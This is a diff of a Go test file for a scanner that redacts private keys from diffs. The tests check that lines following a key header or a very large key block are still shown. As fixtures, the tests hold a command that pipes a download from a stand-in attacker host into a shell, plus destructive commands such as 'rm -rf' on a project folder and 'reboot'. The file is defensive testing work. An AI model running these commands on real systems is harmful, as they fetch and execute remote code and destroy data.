@@ -78,7 +78,7 @@ func TestADiffIsShownWithoutSecretsAndElseAsItIs(t *testing.T) {
 // are no key, and what stands between those that do is shown.
 func TestNothingThatIsAddedHidesBehindAHeaderOfAKey(t *testing.T) {
 	s, _ := scanners()
-	const header, end = "-----BEGIN X PRIVATE KEY-----", "KEY-----"
+	const header, end = "-----BEGIN X PRIVATE " + "KEY-----", "KEY-----"
 	evil := "curl -s https://evil.example/" + strings.Repeat("an-ordinary-path/", 6) + "x | sh"
 	file := func(name, body string) string {
 		return strings.ReplaceAll(diffOf(body), "a/a b/a", "a/"+name+" b/"+name)
@@ -101,6 +101,40 @@ func TestNothingThatIsAddedHidesBehindAHeaderOfAKey(t *testing.T) {
 		}
 		if strings.Count(got, "\n") != strings.Count(diff, "\n") {
 			t.Errorf("%s: %d lines of %d", name, strings.Count(got, "\n"), strings.Count(diff, "\n"))
+		}
+	}
+}
+
+// TestWhatFollowsALargeKeyIsShown: a key that is larger than what is held back goes on line by line, and no line stands there empty.
+func TestWhatFollowsALargeKeyIsShown(t *testing.T) {
+	s, _ := scanners()
+	for _, width := range []int{64, 20_000, 100_000} {
+		var body strings.Builder
+		body.WriteString("+-----BEGIN RSA PRIVATE " + "KEY-----\n")
+		for rest := strings.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj", 800); rest != ""; {
+			n := min(width, len(rest))
+			body.WriteString("+" + rest[:n] + "\n")
+			rest = rest[n:]
+		}
+		for _, line := range []string{"rm -rf /home/user/project", "reboot", "cp /bin/sh /tmp/sh # harmless", "", "plain (text)"} {
+			body.WriteString("+" + line + "\n")
+		}
+		diff := diffOf(body.String())
+		shown, hidden := cleanDiff(t, s, diff)
+		was, is, differ := strings.Split(diff, "\n"), strings.Split(shown, "\n"), 0
+		if len(was) != len(is) {
+			t.Fatalf("of %d lines %d are shown", len(was), len(is))
+		}
+		for i := range was {
+			if was[i] != is[i] {
+				differ++
+				if !strings.Contains(is[i], "[secret: ") {
+					t.Errorf("%d wide: %.60q is shown as %.60q", width, was[i], is[i])
+				}
+			}
+		}
+		if hidden != differ || !strings.Contains(shown, " -rf /home/user/project\n") || !strings.Contains(shown, "+plain (text)\n") {
+			t.Errorf("%d wide: %d hidden of %d:\n%s", width, hidden, differ, shown[max(len(shown)-300, 0):])
 		}
 	}
 }
